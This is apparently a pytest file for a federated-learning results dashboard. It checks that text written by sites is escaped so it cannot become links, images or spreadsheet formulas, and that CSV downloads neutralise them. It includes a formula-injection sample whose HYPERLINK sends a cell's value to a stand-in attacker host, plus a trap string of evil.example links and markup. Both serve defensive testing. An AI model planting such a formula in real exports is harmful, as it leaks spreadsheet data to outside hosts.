"""What others wrote is shown as it is: no link, no picture, no formula; and what was read of the holdouts."""

import csv
import io
from pathlib import Path

import pytest

from flfed.records.reports.faults import holdout_in_words
from flfed.records.reports.report import report
from flfed.records.reports.site_answer import site_line
from flfed.records.store.entries import EventEntry, SiteRow
from flfed.records.store.reader import RunReader
from flfed.records.text import JOINER, escape, with_code
from flfed.spreadsheet import plain_cell
from flfed.words import sentences
from tests.browser import Window

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
TRAP = "see https://evil.example/a or www.evil.example, ask it@evil.example :smile: :red[now] :material/home: &lt;b"


@pytest.mark.parametrize("text", [
    "its policy does not allow the data set heart-disease",
    "12 % of 1,210 rows at 09:30, 2.5 to 3.1 (95 %): no clear gain",
    "1.5 mg/dl; -0.3 and +0.11; AUC 0.712, ε = 1.00", "König & Söhne, Genève - 3rd floor",
])  # fmt: skip
def test_ordinary_text_stays_as_it_is(text):
    assert escape(text).replace("\\", "") == text
    assert len(text) <= len(escape(text)) <= len(text) + text.count("&")


@pytest.mark.parametrize(("text", "shown"), [
    ("- one", "\\- one"), ("1. one", "1\\. one"), ("a\n\n# b\r\u2028c", "a \\# b c"), ("    x", " x"),
    ("---", "\\---"),
])  # fmt: skip
def test_text_is_one_line_and_begins_no_list_or_heading(text, shown):
    assert escape(text) == shown
    assert len(escape(text).splitlines()) == 1


@pytest.mark.parametrize("ticks", ["```https://evil.example`x", "``https://evil.example", "`a``https://evil.example"])
def test_ticks_that_are_no_pair_open_no_way_around(ticks):
    assert f"https:{JOINER}//" in with_code(ticks)
    assert with_code(ticks).count("\\`") == ticks.count("`")


def test_a_gain_in_the_table_of_sites_has_no_quote_before_it(store, heart, url):
    with RunReader.open(url) as reader:
        found = report(reader, heart)
    head = "Gain, + is better (95 % CI, widened for 4 sites)"
    cells = [site_line(found, site, "roc_auc_score")[head] for site in found["sites"]]
    assert sum(cell.startswith("+") for cell in cells) >= 2
    assert [plain_cell(cell) for cell in cells] == cells


def test_a_short_table_that_is_copied_holds_no_formula():
    from streamlit.testing.v1 import AppTest

    def script(formula: str) -> None:
        from flfed.records.dashboard.sections import table

        table([{"@why": formula, "Gain": "+0.11 (+0.02 to +0.20), shared", "Rows": 12}])

    (shown,) = AppTest.from_function(script, args=(FORMULA,)).run().table
    (line,) = shown.value.to_dict("records")
    cells = [text.replace("\\", "").replace(JOINER, "") for text in [*line, *line.values()]]
    assert cells == ["'@why", "Gain", "Rows", f"'{FORMULA}", "+0.11 (+0.02 to +0.20), shared", "12"]


def opened(run: str, times: dict[str, int], site: str = "a") -> list[EventEntry]:
    """The events of a run whose holdout was read so often for these reasons, at one site and at another once each."""
    return [
        EventEntry(run, "", None, at, "holdout-opened", reason)
        for reason, often in times.items()
        for at in [*[site] * often, "other"]
    ]


@pytest.mark.parametrize(("runs", "said"), [
    ([{"compare": 1}], ["once for the comparison, after the last round"]),
    ([{"compare": 1}] * 3, ["once in each of 3 repeats for the comparison, after the last round"]),
    ([{"compare": 1, "audit": 1}], ["once for the comparison", "once for `flfed audit`"]),
    ([{"compare": 1, "audit": 2}], ["once for the comparison", "2 times for `flfed audit`"]),
    ([{"compare": 1}, {"compare": 1, "audit": 1}], ["once in each of 2 repeats", "once for `flfed audit`"]),
    ([{"something-new": 1}], ["once for: something-new."]), ([{}], []),
])  # fmt: skip
def test_what_the_holdouts_were_read_for_is_told_reason_by_reason(runs, said):
    events = [event for place, times in enumerate(runs) for event in opened(f"r{place}", times)]
    lines = holdout_in_words([*events, EventEntry("r0", "", 1, "a", "fault", "compare")])
    assert len(lines) == len(said)
    for line, wanted in zip(lines, said, strict=True):
        assert line.startswith(f"Test rows were read {wanted}")


def test_how_to_go_on_is_told_once(store, write, url, monkeypatch):
    from tests.records.test_dashboard import overview, words

    monkeypatch.setenv("FLFED_STORE", url)
    runs = []
    for reason in ("too few sites", "no space left: free some disk space; then: flfed study resume {run}"):
        run = write(store, store.begin_series(study="s", study_sha256="", study_text=""), rounds=2)
        run.finish(status="failed", reason=reason.format(run=run.run))
        runs.append(run.run)
    assert [words(overview(run)).count(f"flfed study resume {run}") for run in runs] == [1, 1]


def test_that_a_run_is_not_there_is_told_with_its_command_as_code(store, write, url, monkeypatch):
    from tests.records.test_dashboard import overview

    monkeypatch.setenv("FLFED_STORE", url)
    write(store, store.begin_series(study="s", study_sha256="", study_text=""), rounds=1)
    page = overview("nothing_like-it")
    (said,) = [error.value for error in page.error]
    assert "`flfed run list` shows" in said and "'nothing\\_like-it'" in said
    assert [link.proto.label for link in page.get("page_link")] == ["All runs"]  # for who has no terminal


@pytest.mark.browser
def test_a_sites_own_words_become_no_link_no_picture_and_no_formula(window: Window, store):
    facts = {"engine": "inprocess", "path": "stacked", "primary": "roc_auc_score", "task": "binary"}
    runs = []
    for refused in ([TRAP], [f"{FORMULA} {chr(97 + number // 8) * (1 + number % 8)}" for number in range(40)]):
        series = store.begin_series(study="trap", study_sha256="", study_text="")
        run = store.begin_run(series, seed=1, rounds_planned=1, **facts)
        for number, reason in enumerate(refused):
            run.sites([SiteRow(f"site-{number}", status="refused", reason=reason)])
        run.finish(status="completed")
        runs.append(run.run)
    page, main = window.page, window.page.locator("[data-testid=stMain]")
    page.add_init_script("delete window.showSaveFilePicker")  # a dialogue of the desktop, which is not there
    page.goto(f"{window.address}/overview?run={runs[0]}")
    page.get_by_role("heading", name="Rejections, refusals, warnings").wait_for()
    window.drawn()
    cell = main.locator("[data-testid=stTable] td").filter(has_text="evil.example").first
    assert cell.inner_text().replace(JOINER, "") == TRAP
    assert main.locator("a[href*=evil]").count() == 0
    assert main.locator("[data-testid=stTable] [role=img]").count() == 0
    page.goto(f"{window.address}/overview?run={runs[1]}")
    window.drawn()  # what is still being drawn moves the table from under the pointer, and its button away
    main.locator("[data-testid=stDataFrame]").first.hover()
    with page.expect_download() as kept:
        # By key: under load the table is redrawn beneath the pointer, and a click waits for it to rest.
        main.get_by_role("button", name="Download as CSV").first.press("Enter")
    lines = list(csv.reader(io.StringIO(kept.value.path().read_text("utf-8-sig"))))
    cells = [cell for line in lines for cell in line]
    assert len(lines) == 41
    assert sum(cell.startswith(f"'{FORMULA}") for cell in cells) == 40
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


def test_the_glossary_of_the_pages_is_that_of_the_documents():
    lines = (Path(__file__).resolve().parents[2] / "docs" / "glossary.md").read_text().splitlines()
    terms = [f"| {term} | {meaning} |" for term, meaning in sentences("glossary", "terms").items()]
    assert [line for line in lines if line.startswith("| ")][1:] == terms
